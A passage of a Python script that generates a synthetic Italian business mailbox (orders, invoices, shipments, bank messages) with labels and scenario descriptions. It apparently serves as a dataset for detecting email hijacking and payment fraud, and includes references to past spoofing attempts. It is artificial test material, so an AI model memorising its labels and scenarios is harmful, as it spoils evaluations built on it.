       "Cordiali saluti\nStudio Rinaldi & Associati",
       [("CU2025_Pelletteria_Arnolfi.pdf", pdf_protected(["Certificazioni Uniche 2025"], "20250303120000", producer="Entratel CU"), "application/pdf")])
pec_in(at(2025, 5, 28, 16, 40), "studiorinaldi@legalmail.example", "legalmail.example", "Deposito bilancio 2024 - ricevuta Registro Imprese",
       "Spett.le Pelletteria Arnolfi S.r.l.,\n\nsi trasmette la ricevuta di deposito del bilancio 2024 presso il Registro Imprese di Firenze.\n\n"
       "Cordiali saluti\nStudio Rinaldi & Associati",
       [("Ricevuta_deposito_bilancio_2024.pdf", pdf(["Registro Imprese di Firenze - Ricevuta di deposito", "Pelletteria Arnolfi S.r.l. - Bilancio 2024"], producer="DIRE",
                                                    when="20250528160000", zone="+02'00'"), "application/pdf")])
P_GORI = ("Minuterie Metalliche Gori di Gori Fabio", piva("0641783048"), "Via dei Cipressi 9", "50019", "Sesto Fiorentino", "FI")
sdi_in(at(2025, 3, 11, 6, 22), "5066391207", f"IT{P_GORI[1]}_{alnum(5)}.xml.p7m",
       fattura_xml(P_GORI, P_ARN, "41/2025", "2025-03-10", [("Terminali zip coordinati", 2000.0, 0.64)], IBAN_GORI_NEW, "BCC di Cambiano", scad="2025-05-09"),
       signer=("Minuterie Metalliche Gori", "GORI FABIO"))
sdi_in(at(2025, 1, 2, 6, 5), "4871022930", f"IT{P_VALD[1]}_{alnum(5)}.xml.p7m",
       fattura_xml(P_VALD, P_ARN, "142", "2024-12-31", [("Vitello liscio testa di moro 1,2-1,4 mm", 800.0, 4.85)], IBAN_VALD,
                   "Banca di Credito Cooperativo del Valdarno", pag="MP12", scad="2025-02-28"))

# ================================================================ spring/summer 2025 traffic (more history per correspondent)
# T2 revived after 6 months: Valdarno's credit note (G25)
t2.add(vald_amm, "Buongiorno Giulia,\n\ncon riferimento alla vostra contestazione del 28/10/2024 (DDT 1187), vi informiamo che è stata emessa la nota di "
       "credito n. NC 9/2025 di € 1.246,00 + IVA, che riceverete anche tramite SDI. Ci scusiamo per il ritardo con cui vi rispondiamo.\n\nCordiali saluti",
       at(2025, 4, 14, 10, 40), GH, cc=[(marco.name, marco.email)],
       atts=[("NC_9_2025_Pelletteria_Arnolfi.pdf", pdf(["Conceria Valdarno S.p.A. - Nota di credito n. NC 9/2025", "Rif. contestazione 28/10/2024 - DDT 1187",
                                                         "Imponibile EUR 1.246,00 - IVA 22% EUR 274,12"], when="20250414103500", zone="+02'00'"), "application/pdf")],
       scen=("G25", "tannery's accounts office revives the defective-lot claim thread after 6 months with the credit note"))
t2.add(me, "Grazie Silvia, la giro alla nostra amministrazione per la compensazione con la prossima scadenza.", at(2025, 4, 14, 11, 15),
       to=[(vald_amm.name, vald_amm.email)], cc=[(marco.name, marco.email), (elena.name, elena.email)])

# T32 Valdarno: SS26 calf samples
t32 = Thread("T30", marco, "Campionatura vitello stampato SS26")
t32.add(me, "Ciao Marco,\n\nl'ufficio stile per la SS26 vorrebbe provare un vitello stampato cocco opaco, spessore 1,4, in nero, tabacco e panna. Avete "
        "delle pelli campione o possiamo vedere la cartella della nuova stagione?\n\nGrazie", at(2025, 5, 20, 10, 5))
t32.add(marco, "Ciao Giulia,\n\nil cocco opaco lo facciamo su vitello francese, in nero e tabacco abbiamo pelli pronte; la panna va tinta apposta (minimo 30 "
        "pelli). Giovedì passo da Scandicci con la cartella SS26 e le pelli campione, ti va bene verso le 11?", at(2025, 5, 20, 15, 32))
t32.add(me, "Benissimo, giovedì alle 11. Ci sarà anche la stilista.", at(2025, 5, 20, 16, 1))
t32.add(marco, "Come d'accordo ti mando l'offerta per le tre varianti; la panna con consegna in 5 settimane.", at(2025, 5, 23, 9, 48),
        atts=[("Offerta 25-0522 Pelletteria Arnolfi.pdf", pdf(["Conceria Valdarno S.p.A. - Offerta n. 25/0522", "Vitello stampato cocco opaco 1,4 mm",
                                                               "nero / tabacco EUR 6,20/pq - panna (min. 30 pelli) EUR 6,45/pq"], when="20250523094000", zone="+02'00'"), "application/pdf")])
t32.add(me, "Grazie Marco, la giro allo stile e ti faccio sapere entro metà giugno.", at(2025, 5, 23, 10, 15))
t32.add(marco, "Nessuna fretta, i prezzi sono validi fino a fine luglio.", at(2025, 5, 23, 11, 2))

# T33 DRM: SS25 order and delivery (Thomas's SharePoint links again, plain replies)
t33 = Thread("T31", nathalie, "Commande SS25 - BDC 2025-041")
t33.add(nathalie, "Bonjour Giulia,\n\nvoici notre commande SS25 suite à la présentation de nos commerciaux (fichier joint au format habituel). Livraison "
        "souhaitée semaine 20 à Villeurbanne.\n\nCordialement,", at(2025, 4, 3, 9, 20, PAR),
        atts=[("BDC_DRM_2025-041_Arnolfi.xlsx", xlsx([["DISTRIBUTION RHONE MAROQUINERIE - BON DE COMMANDE", "", "", ""], ["N. BDC", "2025-041", "Fournisseur", "Pelletteria Arnolfi"],
                                                       ["Reference", "Designation", "Couleur", "Quantite"], ["SIE-CAB", "Cabas Siena", "noir", 80], ["LUC-BAN", "Bandouliere Lucca", "sauge", 60],
                                                       ["LUC-BAN", "Bandouliere Lucca", "poudre", 60], ["VEL-POC", "Pochette Vela", "beurre", 40]],
                                                      "Inès Moreau", "2025-04-03T07:10:00Z", "BDC"), XLSX)])
t33.add(me, "Bonjour Nathalie,\n\nmerci ! Commande confirmée pour la semaine 20, confirmation OC 77/25 ci-jointe.\n\nBien cordialement", at(2025, 4, 3, 11, 40),
        atts=[("Confirmation OC 77-25 DRM.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Confirmation de commande OC 77/25", "BDC DRM 2025-041", "Livraison semaine 20"],
                                                    when="20250403113500", zone="+02'00'"), "application/pdf")])
t33.add(nathalie, "Parfait, merci. Thomas vous contactera pour l'enlèvement.", at(2025, 4, 3, 12, 5, PAR), cc=[(thomas.name, thomas.email)])
t33.add(thomas, "Bonjour Giulia,\n\npour la livraison de la semaine 20, merci d'utiliser le nouveau modèle de liste de colisage et de déposer les étiquettes "
        f"sur l'espace fournisseurs comme la dernière fois :\nhttps://drmlyon.sharepoint.com/:f:/s/Fournisseurs/E{alnum(21)}?e={alnum(6)}\n\nCordialement,",
        at(2025, 5, 5, 10, 12, PAR))
s33 = sped()
t33.add(me, f"Bonjour Thomas,\n\nliste de colisage ci-jointe, étiquettes déposées. Enlèvement mardi 13 par Veloce Express (n° {s33}).\n\nBien cordialement",
        at(2025, 5, 9, 15, 20), to=[(thomas.name, thomas.email)],
        atts=[("Liste de colisage OC 77-25.xlsx", xlsx([["Colis", "Reference", "Quantite", "Poids kg"], [1, "SIE-CAB noir", 20, 14.2], [2, "SIE-CAB noir", 20, 14.1],
                                                         [3, "LUC-BAN sauge", 30, 11.8]], "Giulia Ferri", "2025-05-09T13:10:00Z", "Colisage"), XLSX)])
vx_notice(at(2025, 5, 13, 17, 40), s33, "Distribution Rhone Maroquinerie, Villeurbanne", "affidata")
vx_notice(at(2025, 5, 15, 11, 5), s33, "Distribution Rhone Maroquinerie, Villeurbanne", "consegnata")
t33.add(thomas, "Réception OK, 24 colis conformes. Merci !", at(2025, 5, 15, 16, 20, PAR))

# Maison Ardoise: May reorder, in the old spring-order thread (T20)
t20.add(julien, "Bonjour Giulia,\n\nles Lucca sauge sont presque toutes vendues. Pourriez-vous nous en envoyer 8 de plus, et 4 Siena beurre ?\n\nBien cordialement,",
        at(2025, 5, 6, 11, 10, PAR))
t20.add(me, "Bonjour Julien,\n\navec plaisir ! Tout est disponible, départ jeudi. Je vous envoie la facture avec le colis.\n\nBien cordialement", at(2025, 5, 6, 14, 2))
t20.add(julien, "Merci, c'est parfait.", at(2025, 5, 6, 14, 40, PAR))
s34 = sped()
vx_notice(at(2025, 5, 8, 17, 30), s34, "Maison Ardoise, Paris", "affidata")
vx_notice(at(2025, 5, 12, 10, 50), s34, "Maison Ardoise, Paris", "consegnata")
t20.add(me, f"Bonjour Julien,\n\nle colis a été livré ce matin (n° {s34}). Facture 98/25 ci-jointe.\n\nBien cordialement", at(2025, 5, 12, 15, 5),
        atts=[("Facture 98-25 Maison Ardoise.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Facture 98/25", "Lucca sauge x8, Siena beurre x4", f"Virement a 30 jours: IBAN {IBAN_ARN}"],
                                                      when="20250512150000", zone="+02'00'"), "application/pdf")])
t20.add(julien, "Bien reçu, merci Giulia. Bonne semaine !", at(2025, 5, 12, 18, 2, PAR))

# Léonie: spring reorder, in her first thread (T23)
t23.add(leonie, "Bonjour Giulia,\n\nj'aimerais passer ma commande de printemps : 4 Lucca sauge, 4 Lucca poudre, 3 Siena beurre et 10 porte-cartes. "
        "Même fonctionnement que la dernière fois ?", at(2025, 3, 17, 10, 40, PAR), sig="\n\nLéonie Bastide\nLes Malles de Léonie\n12 montée de la Grande-Côte, 69001 Lyon")
t23.add(me, "Bonjour Léonie,\n\noui, et comme c'est votre deuxième commande vous pouvez payer à 30 jours. Livraison début avril, quand la nappa sauge sera "
        "prête.\n\nBien cordialement", at(2025, 3, 17, 12, 5))
t23.add(leonie, "Super, merci beaucoup !", at(2025, 3, 17, 12, 31, PAR), client="gmailand", sig=False)
s35 = sped()
t23.add(me, f"Bonjour Léonie, votre colis part aujourd'hui, suivi Veloce Express {s35}. Facture 70/25 ci-jointe.", at(2025, 4, 8, 11, 12),
        atts=[("Facture 70-25 Les Malles de Leonie.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Facture 70/25", "Lucca sauge x4, poudre x4, Siena beurre x3, Ponte x10",
                                                               f"Virement a 30 jours: IBAN {IBAN_ARN}"], when="20250408110500", zone="+02'00'"), "application/pdf")])
vx_notice(at(2025, 4, 8, 17, 50), s35, "Les Malles de Leonie, Lyon", "affidata")
vx_notice(at(2025, 4, 10, 12, 20), s35, "Les Malles de Leonie, Lyon", "consegnata")
t23.add(leonie, "Reçu ! Les couleurs pastel vont faire un malheur en vitrine.", at(2025, 4, 10, 19, 2, PAR), sig="\n\nLéonie Bastide\nLes Malles de Léonie\n12 montée de la Grande-Côte, 69001 Lyon")

# T36 internal: SS26 style meeting; summer closure
t36 = Thread("T32", roberto, "Riunione stile SS26")
t36.add(roberto, "Giulia, giovedì 27 marzo alle 14 facciamo la prima riunione per la SS26 con Marta e il modellista. Porta i riscontri dei clienti francesi "
        "e di Hudson sulla SS25 (cosa ha venduto, cosa no).", at(2025, 3, 21, 8, 55))
t36.add(me, "Ciao Roberto, ok. Preparo una tabella con il venduto per cliente e i commenti raccolti a Première Classe.", at(2025, 3, 21, 9, 20))
t36.add(roberto, "Bene. Aggiungi anche i prezzi dei concorrenti che hai visto a Parigi.", at(2025, 3, 21, 9, 41))
t36.add(me, "Ecco la tabella per domani.", at(2025, 3, 26, 17, 30),
        atts=[("Riscontri clienti SS25.xlsx", xlsx([["Cliente", "Best seller", "Da rivedere", "Note"], ["Hudson & Pike", "Siena tote", "Vela", "chiedono tracolla piu lunga"],
                                                    ["DRM", "Lucca sauge", "Ponte", "prezzo al limite"], ["Atelier Sevigne", "Lucca poudre", "-", "riassortito 2 volte"]],
                                                   "Giulia Ferri", "2025-03-26T16:20:00Z"), XLSX)])
t36.add(roberto, "Perfetto, grazie.", at(2025, 3, 26, 18, 2), client="iphoneit", sig="\n\nInviato da iPhone", opt={"cliehelo": "smtpclient.apple", "ip": f"5.90.{R.randint(1, 250)}.{R.randint(1, 250)}"})
# Il Ponte: SS26 sampling, in the nappa order thread (T5)
t5.add(me, "Ciao Sandro,\n\nper la SS26 ci servirebbe una prova di nappa in due verdi (bottiglia e oliva) e in un rosso mattone. Sempre 4 pelli per "
        "colore, spessore 1,0-1,1 come la volta scorsa.\n\nGrazie!", at(2025, 6, 3, 10, 40))
t5.add(sandro, "ciao giulia, ok. il bottiglia e l'oliva li abbiamo già fatti per un altro cliente, il mattone lo proviamo. per fine mese te li porto",
        at(2025, 6, 3, 18, 12))
t5.add(me, "Perfetto, grazie Sandro.", at(2025, 6, 4, 8, 30))
t5.add(sandro, "giulia i campioni sono pronti, li porto giovedì 26 la mattina", at(2025, 6, 23, 17, 55))

# T39 Fracassi: May shipment for PO HP-25-0305 (to Secaucus as always)
awb3 = f"057-{digits(4)} {digits(4)}"
t39 = Thread("T33", valentina, "Spedizione aerea JFK - PO HP-25-0305")
t39.add(me, "Ciao Valentina,\n\nterza spedizione per Hudson & Pike, PO HP-25-0305: 14 colli, circa 360 kg, pronta martedì 20 maggio. Consegna come sempre al "
        "loro magazzino di Secaucus con il broker Kessler (abbiamo avuto una richiesta di cambio indirizzo che si è rivelata falsa, quindi non cambia niente).\n\n"
        "Grazie", at(2025, 5, 14, 11, 10))
t39.add(valentina, "Ciao Giulia, ricevuto, e grazie dell'avviso: se qualcuno ci scrive per cambiare il destinatario vi chiamiamo prima. Ritiro martedì 20 "
        "pomeriggio, partenza giovedì 22 da Malpensa.", at(2025, 5, 14, 12, 40))
t39.add(me, "Perfetto. Fattura 102/25 e packing list in allegato.", at(2025, 5, 19, 16, 15),
        atts=[("Fattura 102-25 Hudson Pike.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Commercial invoice 102/25", "PO HP-25-0305 - FCA Scandicci", "USD 48.680,00"],
                                                     when="20250519161000", zone="+02'00'"), "application/pdf"),
              ("Packing list 102-25.pdf", pdf(["Packing list - invoice 102/25", "14 cartons - gross 358 kg"], when="20250519161100", zone="+02'00'"), "application/pdf")])
t39.add(valentina, f"Partita, AWB {awb3}. Il broker ha già la pre-alert.", at(2025, 5, 22, 14, 5))
t39.add(fracamm, f"Buongiorno,\n\nin allegato la fattura n. 2025/0611 per la spedizione AWB {awb3}. Pagamento con bonifico a 30 gg data fattura sul nostro "
        f"conto Intesa Sanpaolo, IBAN {spaced(IBAN_FRAC)} (invariato).\n\nCordiali saluti", at(2025, 5, 30, 11, 30),
        atts=[("Fattura_2025_0611.pdf", pdf(["Fracassi Spedizioni Internazionali S.r.l. - Fattura 2025/0611", f"AWB {awb3}", "Totale EUR 1.768,40",
                                             f"Bonifico 30 gg d.f. - IBAN {IBAN_FRAC}"], when="20250530112000", zone="+02'00'"), "application/pdf")])

# T40 Atelier Sévigné: summer order (iPhone and webmail, both normal by now)
t40 = Thread("T34", camille, "Commande été")
t40.add(camille, "Bonjour Giulia,\n\npour l'été nous aimerions 6 pochettes Vela beurre et 6 Lucca poudre. Livraison début juin si possible.\n\nBien à vous,",
        at(2025, 5, 21, 9, 44, PAR))
t40.add(me, "Bonjour Camille,\n\nc'est noté, départ le 3 juin. (Au passage : le mois dernier nous avons reçu de votre adresse un « bon de commande » en "
        "pièce jointe HTML qui ne venait pas de vous ; je vous l'avais signalé par téléphone.)\n\nBien cordialement", at(2025, 5, 21, 11, 5))
t40.add(camille, "Merci Giulia ! Oui, nous avons changé le mot de passe et activé la double authentification avec Orange.\n\nEnvoyé de mon iPhone",
        at(2025, 5, 21, 13, 2, PAR), client="iphonefr", sig=False, opt={"meip": f"37.169.{R.randint(1, 250)}.{R.randint(1, 250)}"})
s40 = sped()
vx_notice(at(2025, 6, 3, 17, 20), s40, "Atelier Sevigne, Paris", "affidata")
vx_notice(at(2025, 6, 5, 10, 40), s40, "Atelier Sevigne, Paris", "consegnata")
t40.add(camille, "Bien reçu, merci. Bel été à toute l'équipe !", at(2025, 6, 5, 15, 12, PAR))

# T41 Rinaldi: shareholders' meeting minutes; T42 bank: export invoice advance
t10.add(rinaldi, "Buongiorno Giulia,\n\nti mando il verbale dell'assemblea di approvazione del bilancio 2024 da far firmare a Roberto; poi rimandamelo "
        "scansionato e procediamo con il deposito.\n\nCordiali saluti", at(2025, 4, 28, 12, 12), quote_rec=t10_seg, irt=t10_seg_mid,
        atts=[("Verbale assemblea 28-04-2025.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Verbale di assemblea ordinaria", "Approvazione del bilancio al 31/12/2024"],
                                                      when="20250428120500", zone="+02'00'"), "application/pdf")])
t10.add(me, "Ciao Paolo, ecco il verbale firmato.", at(2025, 4, 29, 15, 40),
        atts=[("Verbale assemblea firmato.pdf", pdf(["Verbale di assemblea ordinaria - firmato"], producer="HP Scan", when="20250429153500", zone="+02'00'"), "application/pdf")])
t10.add(rinaldi, "Ricevuto, grazie. Procediamo con il deposito entro fine maggio.", at(2025, 4, 30, 9, 15))
t13.add(me, "Buongiorno Dott. Sarti,\n\nabbiamo caricato in Inbank la distinta di anticipo per la fattura 102/25 a Hudson & Pike (USD 48.680). Le confermo "
        "che le richieste arrivate a marzo da un indirizzo gmail a suo nome non erano sue: ce lo ha confermato la filiale.\n\nCordiali saluti", at(2025, 5, 23, 9, 12),
        quote_rec=t13_real, irt=t13_real_mid, subj="R: Anticipo fattura export 102/25")
t13.add(luca, "Buongiorno Sig.ra Ferri,\n\ndistinta ricevuta, l'anticipo sarà accreditato domani. Confermo: la Banca non scrive mai da indirizzi gmail e non "
        "chiede codici al telefono; abbiamo segnalato l'indirizzo.\n\nCordiali saluti", at(2025, 5, 23, 11, 40), sig=luca.sig + BTC_DISC,
        subj="Rif: Anticipo fattura export 102/25")
btc_notice(at(2025, 5, 24, 8, 20), "Accredito anticipo fatture export", ["è stato accreditato sul conto n. ...7190 l'anticipo della fattura export 102/25 (80% del controvalore in euro)."])

# ================================================================ write, in arrival order
pending.sort(key=lambda x: (x[0], x[1]))
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
for i, (t, _, folder, raw, lab, sc) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        labels.append(f"{MB}\t{lab[0]}\t{lab[1][0]}\t{lab[1][1]}")
        if not sc: raise SystemExit(f"labelled message without scenario: {lab}")
        scen.append(f"{path}\t{sc[0]}\t{sc[1]}")
open(f"{root}/labels.tsv", "w", encoding="utf-8").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w", encoding="utf-8").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled ({sum(1 for l in labels[1:] if l.split(chr(9))[2] == 'hijack')} hijack) -> {root}")
